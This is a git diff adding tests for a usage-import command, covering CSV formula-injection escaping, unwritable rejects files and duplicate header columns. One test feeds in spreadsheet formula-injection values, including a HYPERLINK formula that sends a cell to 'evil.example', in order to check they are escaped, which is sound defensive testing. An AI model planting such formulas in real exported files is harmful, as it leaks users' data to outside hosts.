@@ -4,11 +4,17 @@ files real people make and hostile ones (the rejects file opened in a spreadshee
 
 from __future__ import annotations
 
+import csv
 import json
+from datetime import timedelta
+from pathlib import Path
 from typing import Any
 
+import pytest
 from sqlalchemy import select
+from typer.testing import CliRunner
 
+from bot.cli import cli
 from store.db import Database
 from store.models import UsageReading
 from store.types import utcnow
@@ -49,4 +55,75 @@ def test_a_usage_form_forged_to_name_another_workspaces_account_or_none_writes_n
         answer = json.loads(reply.body)
         assert answer["response_action"] == "errors", account_id
         assert "That account no longer exists." in json.dumps(answer), answer
+    assert stored_readings(database) == []
+
+
+# -- the usage import -----------------------------------------------------------------------
+
+
+@pytest.fixture
+def team(database: Database, monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
+    monkeypatch.setenv("DATABASE_URL", database.url)
+    monkeypatch.setenv("COLUMNS", "200")
+    return {"Acme": make_account(database, "Acme").id}
+
+
+def import_usage(*args: str) -> Any:
+    return CliRunner().invoke(cli, ["usage", "import", *args])
+
+
+def test_cells_that_a_spreadsheet_would_run_as_formulas_are_written_back_as_text(
+    tmp_path: Path, database: Database, team: dict[str, int]
+) -> None:
+    """A rejected row goes back into the rejects file as it was; a cell starting with =, +, -,
+    @ (or a tab or carriage return) would run as a formula when the file is opened in a
+    spreadsheet, so it is written with a leading apostrophe, shown as text."""
+    path = tmp_path / "usage.csv"
+    day = (TODAY - timedelta(days=3)).isoformat()
+    path.write_text(
+        "account,date,seats_active,note\n"
+        f'"=HYPERLINK(""http://evil.example/?""&A1,""open"")",{day},5,+1\n'
+        f"@SUM(A1),{day},-1,\t=1+1\n",
+        encoding="utf-8",
+    )
+    result = import_usage(str(path))
+    assert result.exit_code == 1, result.output
+    with (tmp_path / "usage.rejects.csv").open(encoding="utf-8", newline="") as rejects:
+        rows = list(csv.reader(rejects))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert rows[1][2:] == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', day, "5", "'+1"]
+    assert rows[2][2:] == ["'@SUM(A1)", day, "'-1", "'\t=1+1"]
+    assert rows[1][1].startswith("unknown account: ")
+
+
+def test_a_rejects_file_that_cannot_be_written_is_said_plainly_and_the_input_never_overwritten(
+    tmp_path: Path, database: Database, team: dict[str, int]
+) -> None:
+    path = tmp_path / "usage.csv"
+    day = (TODAY - timedelta(days=3)).isoformat()
+    text = f"account,date,seats_active\nAcme,{day},5\nNobody,{day},6\n"
+    path.write_text(text, encoding="utf-8")
+    same = import_usage(str(path), "--rejects", str(tmp_path / "." / "usage.csv"))
+    assert same.exit_code == 2, same.output
+    assert "is the file being imported" in same.output
+    assert path.read_text(encoding="utf-8") == text
+    nowhere = tmp_path / "no such folder" / "rejects.csv"
+    result = import_usage(str(path), "--rejects", str(nowhere))
+    assert result.exit_code == 2, result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert f"cannot write the rejected rows to {nowhere}" in result.output
+    assert stored_readings(database) == []  # refused before anything went in
+
+
+def test_a_header_naming_one_column_twice_is_refused_whole(
+    tmp_path: Path, database: Database, team: dict[str, int]
+) -> None:
+    """`Date` and `Reading date` both read as the day: which one counts cannot be guessed."""
+    path = tmp_path / "usage.csv"
+    day = (TODAY - timedelta(days=3)).isoformat()
+    path.write_text(f"Account,Date,Seats,Reading Date\nAcme,{day},5,2020-01-01\n", encoding="utf-8")
+    result = import_usage(str(path))
+    assert result.exit_code == 2, result.output
+    assert "names the column read_on twice (Date, Reading Date)" in result.output
     assert stored_readings(database) == []
